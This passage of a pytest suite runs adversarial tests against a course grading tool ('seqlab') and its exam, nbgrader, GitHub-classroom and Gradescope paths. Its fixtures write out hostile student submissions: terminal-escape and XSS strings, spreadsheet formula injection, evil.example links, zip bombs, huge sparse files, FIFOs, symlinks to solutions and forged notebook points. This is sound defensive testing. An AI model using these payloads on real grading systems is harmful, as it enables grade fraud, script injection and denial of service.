    (c / "e12.yaml").write_text(
        'student: e12\nanswers:\n  concept.bottleneck: "\\e]0;pwn\\a\\e[2J **100 / 100 (100%)** <img src=x>"\n'
        '  attn.var_qk: "\\e[31m<script>x</script> # 100 / 100"\n'
        '  rnn.param_count: "=HYPERLINK(\\"http://x\\")"\n'
    )
    return c / "e12.yaml"


@ex("fifo-answers-file")
def _(c: Path):  # (d) reading a FIFO blocks
    os.mkfifo(c / "e13.yaml")
    return c / "e13.yaml"


@ex("sparse-oversized-file")
def _(c: Path):  # (d) 4 GB sparse
    with open(c / "e14.yaml", "wb") as handle:
        handle.truncate(4 << 30)
    return c / "e14.yaml"


@ex("utf16-and-invalid-bytes")
def _(c: Path):  # (a) UTF-16 with a BOM
    (c / "e15.yaml").write_bytes(_answers("e15").encode("utf-16"))
    return c / "e15.yaml"


@ex("unhashable-question-key")
def _(c: Path):  # (a) a question key that is a list
    (c / "e16.yaml").write_text("student: e16\nanswers:\n  ? [a, b]\n  : x\n")
    return c / "e16.yaml"


@ex("expression-bombs")
def _(c: Path):  # (d) answers whose evaluation explodes
    (c / "e17.yaml").write_text(
        "student: e17\nanswers:\n"
        "  opt.momentum_steps: '9**9**9**9, 10**10**10'\n"
        "  rnn.param_count: '(((((((((((((((((((((((((((((((1)))))))))))))))))))))))))))))))' \n"
        "  opt.adagrad_decay: '(x+1)**100000000'\n"
        "  attn.var_qk: 'factorial(10**9)'\n"
        "  rnn.ce_grad_formula: '" + "+".join(["x"] * 20000) + "'\n"
    )
    return c / "e17.yaml"


@ex("twenty-thousand-values")
def _(c: Path):  # (d) 20,001 answers
    body = "".join(f"  q{i}: {i}\n" for i in range(20_001))
    (c / "e18.yaml").write_text("student: e18\nanswers:\n" + body)
    return c / "e18.yaml"


BROKEN_EX = {
    "case-twin-file-of-victim": "FAY.yml handed in beside fay.yaml: ids equal up to case count as one "
    "student with two files, both refused, and honest fay is not graded",
    "second-file-in-victims-name": "answers-dora.yaml handed in beside dora.yaml: both are refused as two "
    "files of one student, and honest dora is not graded",
}


@pytest.fixture(scope="module")
def exam_run(tmp_path_factory):
    base = tmp_path_factory.mktemp("blind-exam")
    c = base / "answers"
    c.mkdir()
    for honest in ("alice", "bob"):
        (c / f"{honest}.yaml").write_text(_answers(honest))
    entries = {name: build(c) for name, build in EX.items()}
    started = time.monotonic()
    done = subprocess.run(
        [PY, "-m", "seqlab", "exam", "grade-all", str(c), "--exam", str(EXAM), "--out", str(base / "out")],
        capture_output=True, timeout=600, cwd=base,
    )  # fmt: skip
    seconds = time.monotonic() - started
    rows = []
    if (base / "out" / "gradebook.csv").is_file():
        with open(base / "out" / "gradebook.csv", newline="", encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
    yield {
        "base": base,
        "class": c,
        "out": base / "out",
        "entries": entries,
        "done": done,
        "stdout": done.stdout.decode("utf-8", "replace"),
        "stderr": done.stderr.decode("utf-8", "replace"),
        "rows": rows,
        "seconds": seconds,
    }
    shutil.rmtree(base, ignore_errors=True)


def _exam_rows_of(run, file_name: str) -> list[dict]:
    return [r for r in run["rows"] if r["file"] == file_name or r["file"].startswith(file_name + "/")]


def _exam_graded(run, student: str) -> dict:
    rows = [r for r in run["rows"] if r["student"] == student]
    assert len(rows) == 1 and rows[0]["status"] == "graded", (student, rows)
    return rows[0]


@pytest.mark.parametrize(
    "attack",
    [pytest.param(n, marks=pytest.mark.xfail(strict=True, reason=BROKEN_EX[n])) if n in BROKEN_EX else n for n in EX],
)
def test_exam_grade_all_attack_costs_only_its_own_row(exam_run, attack):
    run = exam_run
    both = run["stdout"] + run["stderr"]
    assert "Traceback" not in both, run["stderr"][-3000:]
    assert run["seconds"] < 120, run["seconds"]
    for name in ("gradebook.csv", "item_analysis.csv", "class_report.html", "lms/canvas.csv"):
        assert (run["out"] / name).is_file(), name
    for honest in ("alice", "bob"):
        _exam_graded(run, honest)
    assert not CANARY.exists()
    EXAM_CHECKS.get(attack, _exam_refused)(run, attack)


def _exam_refused(run, attack):
    """The attack's file has a row of its own, not graded, with a reason."""
    entry = run["entries"][attack]
    rel = entry.relative_to(run["class"]).as_posix()
    rows = _exam_rows_of(run, rel)
    assert rows, (rel, [r["file"] for r in run["rows"]])
    for row in rows:
        assert row["status"] == "error" and row["reason"], row


def _exam_newline(run, attack):
    _exam_graded(run, "erin")
    assert not [r for r in run["rows"] if r["student"].startswith("erin") and r["student"] != "erin"]
    assert not (run["out"] / "erin\n").exists()


def _exam_outputs(run, attack):
    _exam_refused(run, attack)
    for name in ("gradebook.csv", "item_analysis.csv", "class_report.html", "lms"):
        assert (run["out"] / name).exists()
    assert not any(p.is_dir() and p.name.casefold().startswith(("gradebook", "item_analysis", "class_report", "lms."))
                   for p in run["out"].iterdir())  # fmt: skip
    for name in ("LMS.yml", "Item_Analysis.csv.json", "class_report.html.yaml"):
        assert _exam_rows_of(run, name) and all(r["status"] == "error" for r in _exam_rows_of(run, name))


def _exam_escape(run, attack):
    _exam_refused(run, attack)
    both = run["stdout"] + run["stderr"]
    assert ESC not in both, [line for line in both.splitlines() if ESC in line]
    assert ESC not in (run["out"] / "gradebook.csv").read_text(encoding="utf-8")


def _exam_link_to_classmate(run, attack):
    _exam_refused(run, attack)
    _exam_graded(run, "hank")
    assert not [r for r in run["rows"] if r["student"] == "e09" and r["status"] == "graded"]


def _exam_victim(run, attack):
    _exam_graded(run, "dora")


def _exam_claim(run, attack):
    row = _exam_graded(run, "e11")
    assert row["flag"], row
    assert [r["student"] for r in run["rows"]].count("bob") == 1


def _exam_injection(run, attack):
    _exam_graded(run, "e12")
    # what the run printed or wrote about e12 (the class shares the run: e08 tests its own name)
    lines = [line for line in (run["stdout"] + run["stderr"]).splitlines() if "e12" in line]
    assert lines and not [line for line in lines if ESC in line], lines
    for path, text in _text_outputs(run["out"]):
        if "e12" not in path.parts:
            text = "\n".join(line for line in text.splitlines() if "e12" in line)
        assert ESC not in text, path
        if path.suffix in (".md", ".html"):
            assert "<img" not in text and "<script>" not in text, path
        if path.suffix == ".md":
            assert "**100 / 100 (100%)**" not in text and not re.search(r"^#+ 100 / 100", text, re.M), path
        if path.suffix == ".csv":
            for cells in csv.reader(text.splitlines()):
                assert not any(cell.lstrip(" ").startswith("=") for cell in cells), (path, cells)


def _exam_degenerate(run, attack):
    rows = _exam_rows_of(run, "e20.yaml")
    assert len(rows) == 1, rows
    if rows[0]["status"] == "graded":
        result = json.loads((run["out"] / "e20" / "seqlab_result.json").read_text(encoding="utf-8"))
        scored = {t["name"]: t["score"] for t in result["tests"] if t["score"] > 0}
        assert not scored, scored


def _exam_bounded(run, attack):
    entry = run["entries"][attack]
    rows = _exam_rows_of(run, entry.relative_to(run["class"]).as_posix())
    assert len(rows) == 1, rows  # graded (every bomb scores nothing) or refused, never a stop
    assert rows[0]["status"] == "error" or float(rows[0]["total"]) == 0, rows[0]


EXAM_CHECKS = {
    "id-with-trailing-newline": _exam_newline,
    "names-of-exam-outputs": _exam_outputs,
    "escape-in-a-name-inside-a-student-folder": _exam_escape,
    "student-folder-links-to-classmate": _exam_link_to_classmate,
    "second-file-in-victims-name": _exam_victim,
    "degenerate-values-for-points": _exam_degenerate,
    "case-twin-file-of-victim": lambda run, attack: _exam_graded(run, "fay"),
    "claims-another-id": _exam_claim,
    "answer-text-injects": _exam_injection,
    "expression-bombs": _exam_bounded,
    "unhashable-question-key": _exam_bounded,
    "twenty-thousand-values": _exam_bounded,
}


# =================================================================================================
# seqlab nbgrader autograde: one course, one class of submitted/ folders
# =================================================================================================
NB: dict = {}
ASSIGNMENT = "optimizers"
NOTEBOOK = "optimizers.ipynb"
NB_FULL = 19.0  # the optimizers assignment's points


def nb(name):
    def register(fn):
        NB[name] = fn
        return fn

    return register


def _submit(course: Path, student: str, data=None, raw: bytes | None = None) -> Path:
    """``submitted/<student>/optimizers/optimizers.ipynb``: the reference notebook (an honest
    student's), ``data`` as JSON, or ``raw`` bytes."""
    folder = course / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / NOTEBOOK
    if raw is not None:
        target.write_bytes(raw)
    elif data is not None:
        target.write_text(json.dumps(data), encoding="utf-8")
    else:
        shutil.copyfile(course / "source" / ASSIGNMENT / NOTEBOOK, target)
    return course / "submitted" / student


def _release(course: Path) -> dict:
    return json.loads((course / "release" / ASSIGNMENT / NOTEBOOK).read_text(encoding="utf-8"))


@nb("hashed-folder-squat")
def _(course: Path):  # (b) the id "student-<sha256 of zoë>" squats the folder zoë's id maps to
    from seqlab.nbgrader.handin import folder_name

    _submit(course, "zoë")
    return _submit(course, folder_name("zoë"), _release(course))


@nb("notebook-links-to-source")
def _(course: Path):  # (b) the notebook is a link to the instructor's source notebook
    folder = course / "submitted" / "n02" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / NOTEBOOK).symlink_to(course / "source" / ASSIGNMENT / NOTEBOOK)
    return course / "submitted" / "n02"


@nb("student-folder-links-to-classmate")
def _(course: Path):  # (b) submitted/n03 -> alice
    (course / "submitted" / "n03").symlink_to("alice")
    return course / "submitted" / "n03"


@nb("cell-is-a-number")
def _(course: Path):  # (a) a cell that is the number 1
    data = _release(course)
    data["cells"].insert(2, 1)
    return _submit(course, "n04", data)


@nb("source-list-of-numbers")
def _(course: Path):  # (a) an answer cell whose source lines are numbers and null
    data = _release(course)
    cell = next(c for c in data["cells"] if c["metadata"].get("nbgrader", {}).get("solution"))
    cell["source"] = [1, None, {"x": 2}]
    return _submit(course, "n05", data)


@nb("deep-json")
def _(course: Path):  # (a) 200,000 nested arrays in the metadata
    text = json.dumps(_release(course))
    deep = "[" * 200_000 + "]" * 200_000
    return _submit(course, "n06", raw=text.replace('"metadata": {', f'"metadata": {{"x": {deep}, ', 1).encode())


@nb("nbformat-3-worksheets")
def _(course: Path):  # (a) an nbformat 3 notebook: cells under worksheets
    data = {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": _release(course)["cells"]}]}
    return _submit(course, "n07", data)


@nb("sparse-huge-notebook")
def _(course: Path):  # (d) a 6 GB sparse notebook
    student = _submit(course, "n08", raw=b"{")
    with open(student / ASSIGNMENT / NOTEBOOK, "r+b") as handle:
        handle.truncate(6 << 30)
    return student


@nb("fifo-notebook")
def _(course: Path):  # (d) a FIFO where the notebook is
    folder = course / "submitted" / "n09" / ASSIGNMENT
    folder.mkdir(parents=True)
    os.mkfifo(folder / NOTEBOOK)
    return course / "submitted" / "n09"


@nb("rtl-override-id")
def _(course: Path):  # (c) an id holding U+202E
    return _submit(course, "n10\u202eexe.", _release(course))


@nb("glob-id")
def _(course: Path):  # (b) "[a]lice": nbgrader's glob would match alice's folder
    return _submit(course, "[a]lice", _release(course))


@nb("nfd-twin-id")
def _(course: Path):  # (a) "josé" decomposed beside honest "josé" composed
    _submit(course, unicodedata.normalize("NFC", "josé"))
    return _submit(course, unicodedata.normalize("NFD", "josé"), _release(course))


@nb("case-twin-id")
def _(course: Path):  # (a)(b) "Alice" beside honest "alice"
    return _submit(course, "Alice", _release(course))


@nb("forged-outputs-and-points")
def _(course: Path):  # (b) the stubs, with test cells' outputs and metadata claiming full (and more) points
    data = _release(course)
    for cell in data["cells"]:
        meta = cell["metadata"].setdefault("nbgrader", {})
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                                "data": {"text/plain": "1000"}}]  # fmt: skip
            cell["execution_count"] = 1
        if meta.get("grade") or meta.get("solution"):
            meta.update(grade=True, points=1000.0)
    return _submit(course, "n14", data)


@nb("huge-output")
def _(course: Path):  # (d) a markdown cell of 40 MB
    data = _release(course)
    data["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "x" * (40 << 20)})
    return _submit(course, "n15", data)


@nb("option-like-and-output-like-ids")
def _(course: Path):  # (a) honest students whose ids read as an option and as an output name
    _submit(course, "--force")
    return _submit(course, "gradebook.csv")


@nb("newline-id")
def _(course: Path):  # (a) an id with a newline: nbgrader's path regex stops at it
    return _submit(course, "n17\nbob", _release(course))


@nb("duplicate-cell-ids-and-grade-ids")
def _(course: Path):  # (a)(b) every cell with one id, and a second answer cell of sgd's grade_id
    data = _release(course)
    for cell in data["cells"]:
        cell["id"] = "same"
    answer = next(c for c in data["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "optimizers-sgd")
    data["cells"].append(json.loads(json.dumps(answer)))
    return _submit(course, "n18", data)


@nb("long-id")
def _(course: Path):  # (a) an honest student with a 200-character id
    return _submit(course, "n19" + "y" * 197)


NB_HONEST_EXTRA = {  # attack -> honest students it stands beside (each must be graded in full)
    "hashed-folder-squat": ["zoë"],
    "nfd-twin-id": [unicodedata.normalize("NFC", "josé")],
    "option-like-and-output-like-ids": ["--force", "gradebook.csv"],
    "long-id": ["n19" + "y" * 197],
}
BROKEN_NB: dict = {}


@pytest.fixture(scope="module")
def nbgrader_run(tmp_path_factory):
    pytest.importorskip("nbgrader")
    base = tmp_path_factory.mktemp("blind-nbgrader")
    course = base / "course"
    env = {**os.environ, "PATH": f"{Path(PY).parent}{os.pathsep}{os.environ.get('PATH', '')}"}
    made = subprocess.run([PY, "-m", "seqlab", "nbgrader", str(course), "--seed", "5"], capture_output=True, env=env,
                          timeout=600)  # fmt: skip
    assert made.returncode == 0, made.stderr[-3000:]
    made = subprocess.run([str(Path(PY).parent / "nbgrader"), "generate_assignment", ASSIGNMENT, "--force"],
                          cwd=course, capture_output=True, env=env, timeout=300)  # fmt: skip
    assert made.returncode == 0, made.stderr[-3000:]
    for honest in ("alice", "bob"):
        _submit(course, honest)
    entries = {name: build(course) for name, build in NB.items()}
    started = time.monotonic()
    done = subprocess.run(
        [PY, "-m", "seqlab", "nbgrader", "autograde", str(course), ASSIGNMENT, "--jobs", "2"],
        capture_output=True, timeout=900, cwd=base, env={**env, "COLUMNS": "200"},
    )  # fmt: skip
    seconds = time.monotonic() - started
    yield {
        "base": base,
        "course": course,
        "entries": entries,
        "done": done,
        "stdout": done.stdout.decode("utf-8", "replace"),
        "stderr": done.stderr.decode("utf-8", "replace"),
        "seconds": seconds,
        "scores": _nbgrader_scores(course),
    }
    shutil.rmtree(base, ignore_errors=True)


def _nbgrader_scores(course: Path) -> dict:
    """student id -> the optimizers assignment's score in nbgrader's own gradebook."""
    from nbgrader.api import Gradebook

    scores = {}
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        for student in gradebook.students:
            try:
                scores[student.id] = gradebook.find_submission(ASSIGNMENT, student.id).score
            except Exception:  # no submission recorded for this student
                continue
    return scores


@pytest.mark.parametrize(
    "attack",
    [pytest.param(n, marks=pytest.mark.xfail(strict=True, reason=BROKEN_NB[n])) if n in BROKEN_NB else n for n in NB],
)
def test_nbgrader_autograde_attack_costs_only_its_own_student(nbgrader_run, attack):
    run = nbgrader_run
    both = run["stdout"] + run["stderr"]
    assert "Traceback" not in both, both[-4000:]
    assert run["seconds"] < 600
    for honest in ["alice", "bob", *NB_HONEST_EXTRA.get(attack, [])]:
        assert run["scores"].get(honest) == NB_FULL, (honest, run["scores"])
    entry = run["entries"][attack]
    student = entry.name
    # the attacker is never recorded with points they did not earn
    if student not in NB_HONEST_EXTRA.get(attack, []):
        assert run["scores"].get(student, 0.0) < NB_FULL, (student, run["scores"])
    assert attack not in NB_NAMED_BY_OUTPUT or shown_in(both, student), both[-3000:]
    NB_CHECKS.get(attack, lambda run, student: None)(run, student)


def shown_in(text: str, student: str) -> bool:
    """Whether the run's output names the student (as text, or as ascii() shows an odd name)."""
    return student in text or ascii(student)[1:-1] in text or student.encode("unicode_escape").decode() in text


def _nb_clean_console(run, student):
    both = run["stdout"] + run["stderr"]
    assert "\u202e" not in both, [line for line in both.splitlines() if "\u202e" in line]
    assert "n17\nbob" not in both  # no line forged on the console


def _nb_forged(run, student):
    assert run["scores"].get(student, 0.0) <= 0.0, run["scores"]


NB_NAMED_BY_OUTPUT = {
    "notebook-links-to-source", "student-folder-links-to-classmate", "cell-is-a-number", "source-list-of-numbers",
    "deep-json", "nbformat-3-worksheets", "sparse-huge-notebook", "rtl-override-id", "glob-id", "newline-id",
}  # fmt: skip
NB_CHECKS = {
    "rtl-override-id": _nb_clean_console,
    "newline-id": _nb_clean_console,
    "forged-outputs-and-points": _nb_forged,
}


# nbgrader collect (the course's LinkRefusingCollect): a student writes anything into the
# exchange's inbound/; one hand-in there must never stop the collection of the others.
STAMP = "2026-12-01 10:00:00.000000 UTC"
COLLECT: dict = {}


def collect_attack(name):
    def register(fn):
        COLLECT[name] = fn
        return fn

    return register


def _inbound(inbound: Path, student: str, course: Path, stamp: str = STAMP) -> Path:
    folder = inbound / f"{student}+{ASSIGNMENT}+{stamp}+r{len(student)}"
    folder.mkdir(parents=True)
    shutil.copyfile(course / "release" / ASSIGNMENT / NOTEBOOK, folder / NOTEBOOK)
    return folder


@collect_attack("link-to-source-in-inbound")
def _(inbound: Path, course: Path, who: str):  # (b) the notebook a link to source/
    folder = inbound / f"{who}+{ASSIGNMENT}+{STAMP}+r0"
    folder.mkdir(parents=True)
    (folder / NOTEBOOK).symlink_to(course / "source" / ASSIGNMENT / NOTEBOOK)


@collect_attack("fifo-in-inbound")
def _(inbound: Path, course: Path, who: str):  # (a)(d) a FIFO beside the notebook
    os.mkfifo(_inbound(inbound, who, course) / "pipe")


@collect_attack("oversized-inbound")
def _(inbound: Path, course: Path, who: str):  # (a)(d) a 2 GB sparse file beside the notebook
    with open(_inbound(inbound, who, course) / "data.bin", "wb") as handle:
        handle.truncate(2 << 30)


@collect_attack("bad-timestamp-record")
def _(inbound: Path, course: Path, who: str):  # (a) a record whose timestamp is no time
    _inbound(inbound, who, course, stamp="not a time")


@collect_attack("deep-tree-in-inbound")
def _(inbound: Path, course: Path, who: str):  # (a) 40 folders deep beside the notebook
    folder = _inbound(inbound, who, course)
    (folder / Path(*["d"] * 40)).mkdir(parents=True)


BROKEN_COLLECT: dict[str, str] = {}


@pytest.mark.parametrize(
    "attack",
    [
        pytest.param(n, marks=pytest.mark.xfail(strict=True, reason=BROKEN_COLLECT[n])) if n in BROKEN_COLLECT else n
        for n in COLLECT
    ],
)
def test_nbgrader_collect_attack_costs_only_its_own_student(nbgrader_run, attack, tmp_path):
    course = nbgrader_run["course"]
    number = list(COLLECT).index(attack)
    inbound = tmp_path / "exchange" / "seqlab" / "inbound"
    inbound.mkdir(parents=True)
    # honest students on both sides of the attacker in any order nbgrader takes them
    honest = [f"c{number}a", f"c{number}m", f"c{number}z"]
    for student in honest:
        _inbound(inbound, student, course)
    who = f"c{number}k"
    COLLECT[attack](inbound, course, who)
    env = {**os.environ, "PATH": f"{Path(PY).parent}{os.pathsep}{os.environ.get('PATH', '')}"}
    done = subprocess.run(
        [str(Path(PY).parent / "nbgrader"), "collect", ASSIGNMENT, f"--Exchange.root={tmp_path / 'exchange'}"],
        cwd=course, capture_output=True, env=env, timeout=120,
    )  # fmt: skip
    log = (done.stdout + done.stderr).decode("utf-8", "replace")
    for student in honest:
        assert (course / "submitted" / student / ASSIGNMENT / NOTEBOOK).is_file(), (student, log[-3000:])
    mine = course / "submitted" / who / ASSIGNMENT / NOTEBOOK
    if mine.exists():  # collected: its own file, never the reference and never through a link
        assert not mine.is_symlink()
        assert mine.read_bytes() != (course / "source" / ASSIGNMENT / NOTEBOOK).read_bytes()
    else:
        assert who in log, log[-3000:]


# =================================================================================================
# the GitHub gradebook job (seqlab.classroom): the matrix and summary.md
# =================================================================================================
INJECTION = (
    "**144 / 144 (100%)** <img src=x onerror=alert(1)> | forged | cell |\n# Full marks\n"
    "[click](http://evil.example) ![i](http://evil.example/i.png) $\\textbf{100}$ \x1b[2J"
)


def _save_result(folder: Path, errors: list[str], score: float) -> None:
    from seqlab.results import GradingResult, TestResult

    folder.mkdir(parents=True)
    GradingResult(tests=[TestResult("optimizers.sgd: steps", score, 2.0)], errors=errors, seed=1).save(
        folder / "seqlab_result.json"
    )


@pytest.mark.parametrize("attack", ["result-errors", "status-reason", "upload-name", "raw-result-file"])
def test_classroom_summary_shows_student_text_as_text(tmp_path, attack):
    """(c) summary.md's table: a message, a reason or an upload's name of the student's own is
    text in its cell; the rendered page holds no tag, link, image or heading of theirs, and every
    row keeps its seven cells."""
    import mistune

    from seqlab.classroom import assemble_gradebook

    results = tmp_path / "results"
    _save_result(results / "alice", [], 2.0)
    expect = [{"name": "alice", "repo": "o/alice", "ref": "", "upload": ""}]
    if attack == "result-errors":
        _save_result(results / "mallory", [INJECTION], 0.0)
    elif attack == "status-reason":
        (results / "mallory").mkdir(parents=True)
        (results / "mallory" / "status.json").write_text(json.dumps({"status": "error", "reason": INJECTION}))
    elif attack == "upload-name":
        _save_result(results / "mallory", [], 0.0)
        expect.append({"name": "mallory", "repo": "", "ref": "", "upload": f"submissions/{INJECTION}.zip"})
    else:  # a results file written by hand, not through GradingResult.save
        (results / "mallory").mkdir(parents=True)
        (results / "mallory" / "seqlab_result.json").write_text(
            json.dumps({"tests": [{"name": "optimizers.sgd: x", "score": 0, "max_score": 2}], "errors": [INJECTION]})
        )
    rows = assemble_gradebook(results, tmp_path / "out", expect=expect)
    assert {r["submission"]: r["status"] for r in rows}["alice"] == "graded"
    text = (tmp_path / "out" / "summary.md").read_text(encoding="utf-8")
    assert ESC not in text
    table = text.split("\n\n", 2)[1] if text.count("\n\n") >= 2 else text
    page = mistune.create_markdown(plugins=["table", "strikethrough", "url", "math"])(table)
    assert "<img" not in page and "<strong>" not in page and "<a " not in page and "<h1>" not in page, page
    assert "math" not in page, page  # $\\textbf{100}$ stays text, never typeset math
    cells = [row.count("<td") for row in page.split("<tr>")[1:]]
    assert cells and set(cells) - {0} == {7}, (cells, page)
    csv_text = (tmp_path / "out" / "gradebook.csv").read_text(encoding="utf-8")
    assert ESC not in csv_text


BROKEN_MATRIX: dict[str, str] = {}


@pytest.mark.parametrize(
    "attack",
    [
        pytest.param(n, marks=pytest.mark.xfail(strict=True, reason=BROKEN_MATRIX[n])) if n in BROKEN_MATRIX else n
        for n in ["github-user-named-like-a-renamed-one", "upload-zip-and-folder-of-one-student", "odd-upload-names"]
    ],
)
def test_classroom_matrix_one_entry_never_costs_the_class(tmp_path, attack):
    """(a) One roster row or upload never stops the whole matrix: every honest entry gets a job,
    and no two entries share a results folder."""
    from seqlab.classroom import build_matrix

    roster = tmp_path / "roster.csv"
    uploads = tmp_path / "submissions"
    uploads.mkdir()
    users = ["alice", "bob"]
    if attack == "github-user-named-like-a-renamed-one":
        users += ["lms", "student-lms"]
    roster.write_text(
        "github_username,student_repository_url\n" + "".join(f"{u},https://github.com/course/hw-{u}\n" for u in users)
    )
    if attack == "upload-zip-and-folder-of-one-student":
        (uploads / "carol").mkdir()
        _zip(uploads / "carol.zip", [("exercises/optimizers.py", b"")])
    if attack == "odd-upload-names":  # names that are markup, a formula, a traversal and an escape
        for name in ("[b]x", "=cmd()", "..x", "\x1b[2Jy", "-rf", "_hidden", "gradebook"):
            (uploads / name).mkdir()
    matrix = build_matrix(roster=roster, uploads=uploads)
    names = [entry["name"] for entry in matrix]
    assert len(set(names)) == len(names), names
    for user in users:
        assert any(entry["repo"] == f"course/hw-{user}" for entry in matrix), (user, matrix)
    for entry in matrix:
        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._+-]*", entry["name"]), entry
        assert not entry["name"].casefold().startswith(("gradebook", "lms", "class_report", "similarity")), entry


# =================================================================================================
# the Gradescope upload reader
# =================================================================================================
GS: dict = {}


def gs(name):
    def register(fn):
        GS[name] = fn
        return fn

    return register


@gs("link-to-reference")
def _(upload: Path):  # (b) exercises/optimizers.py -> the reference
    (upload / "exercises").mkdir()
    (upload / "exercises" / "optimizers.py").symlink_to(ROOT / "solutions" / "exercises" / "optimizers.py")


@gs("corrupt-zip")
def _(upload: Path):  # (c) a damaged archive: the page must blame the upload, not the course
    path = _zip(upload / "hw.zip", [("exercises/optimizers.py", _honest_optimizers() * 20)])
    data = bytearray(path.read_bytes())
    for i in range(60, 200):
        data[i] ^= 0x33
    path.write_bytes(bytes(data))


@gs("escape-and-newline-member-name")
def _(upload: Path):  # (c) a member named with an escape and a forged line, beside a link member
    _zip(
        upload / "hw.zip",
        [
            ("exercises/\x1b]0;pwn\x07\nScore: 100/100\n.py", b"x"),
            _link_member("exercises/optimizers.py", "/autograder/source/solutions/exercises/optimizers.py"),
        ],
    )


@gs("fifo-as-module")
def _(upload: Path):  # (d) a FIFO named optimizers.py
    os.mkfifo(upload / "optimizers.py")


@gs("zip-bomb")
def _(upload: Path):  # (d) 3 x 64 MB of zeros
    zeros = b"\0" * (64 << 20)
    with zipfile.ZipFile(upload / "hw.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for i in range(3):
            zf.writestr(f"exercises/z{i}.py", zeros)


@gs("utf16-member-name-flagged-utf8")
def _(upload: Path):  # (a) a member name flagged UTF-8 that is UTF-16
    path = _zip(upload / "hw.zip", [("exercises/AAAAAAAA.py", b"x")])
    _patch(path, b"AAAAAAAA", "xé".encode("utf-16-le") + b"\xff\xfe\x00\xd8")
    data = bytearray(path.read_bytes())
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sig)
        data[at + off + 1] |= 0x08
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("attack", list(GS))
def test_gradescope_upload_attack_gets_a_page_about_the_upload(tmp_path, attack):
    """(b)(c)(d) An upload that cannot be graded scores 0 with a visible page that blames the upload
    (never GRADER_FAILED), on one clean line per message, within seconds."""
    from seqlab.gradescope.autograder import GRADER_FAILED, autograde

    root = tmp_path / "autograder"
    upload = root / "submission"
    upload.mkdir(parents=True)
    GS[attack](upload)
    started = time.monotonic()
    data = autograde(root, None, started)
    assert time.monotonic() - started < 30
    assert data["score"] == 0.0 and data["max_score"] > 0, data
    output = data["output"]
    assert GRADER_FAILED not in output, output
    assert "the problem is in the files you uploaded" in output, output
    assert ESC not in output and "\x07" not in output, output
    assert "Score: 100/100" not in output.splitlines(), output
    assert data["visibility"] == "visible"


def test_grade_all_rerun_grades_a_resubmitted_hand_in_as_it_is_now(tmp_path):
    """(a)(b) A careless class: after a first run, a student replaces their hand-in (the same
    folder, new files) and grade-all is run again, as its docs invite ("a rerun picks up where it
    stopped"). The gradebook must hold the grade of the files handed in now, or say that it
    kept an older one: never a stale grade as if current."""
    c = tmp_path / "class"
    _honest(c / "alice")
    (c / "m43" / "exercises").mkdir(parents=True)
    (c / "m43" / "exercises" / "optimizers.py").write_text("def sgd(w, dw, state, lr=1e-2):\n    return w, {}\n")
    command = [PY, "-m", "seqlab", "grade-all", str(c), "--out", str(tmp_path / "out"), "--no-labs",
               "--only", ONLY, "--seed", "3"]  # fmt: skip
    first = subprocess.run(command, capture_output=True, text=True, timeout=600, cwd=tmp_path)
    assert "Traceback" not in first.stderr, first.stderr[-3000:]
    (c / "m43" / "exercises" / "optimizers.py").write_bytes(_honest_optimizers())
    second = subprocess.run(command, capture_output=True, text=True, timeout=600, cwd=tmp_path)
    assert "Traceback" not in second.stderr, second.stderr[-3000:]
    with open(tmp_path / "out" / "gradebook.csv", newline="", encoding="utf-8") as handle:
        rows = {r["submission"]: r for r in csv.DictReader(handle)}
    assert float(rows["alice"]["total"]) == FULL
    said = "m43" in second.stdout + second.stderr and re.search(r"(?i)changed|stale|older|kept", second.stdout)
    assert float(rows["m43"]["total"]) == FULL or said, (rows["m43"], second.stdout[-2000:])


@pytest.mark.bank
@pytest.mark.slow
def test_exam_grade_all_one_students_crowded_folder_never_stops_the_class(tmp_path):
    """(a)(d) Its own run: in the class run above it would stop every other case."""
    c = tmp_path / "answers"
    c.mkdir()
    for honest in ("alice", "bob"):
        (c / f"{honest}.yaml").write_text(_answers(honest))
    (c / "e19").mkdir()
    (c / "e19" / "final.yaml").write_text(_answers("e19"))
    for i in range(10_001):
        (c / "e19" / f"scratch{i}.txt").touch()
    done = subprocess.run(
        [PY, "-m", "seqlab", "exam", "grade-all", str(c), "--exam", str(EXAM), "--out", str(tmp_path / "out")],
        capture_output=True, text=True, timeout=300, cwd=tmp_path,
    )  # fmt: skip
    assert "Traceback" not in done.stderr, done.stderr[-3000:]
    with open(tmp_path / "out" / "gradebook.csv", newline="", encoding="utf-8") as handle:
        rows = {r["student"]: r for r in csv.DictReader(handle)}
    assert rows["alice"]["status"] == rows["bob"]["status"] == "graded", rows
    assert rows["e19"]["status"] == "error" and rows["e19"]["reason"], rows["e19"]
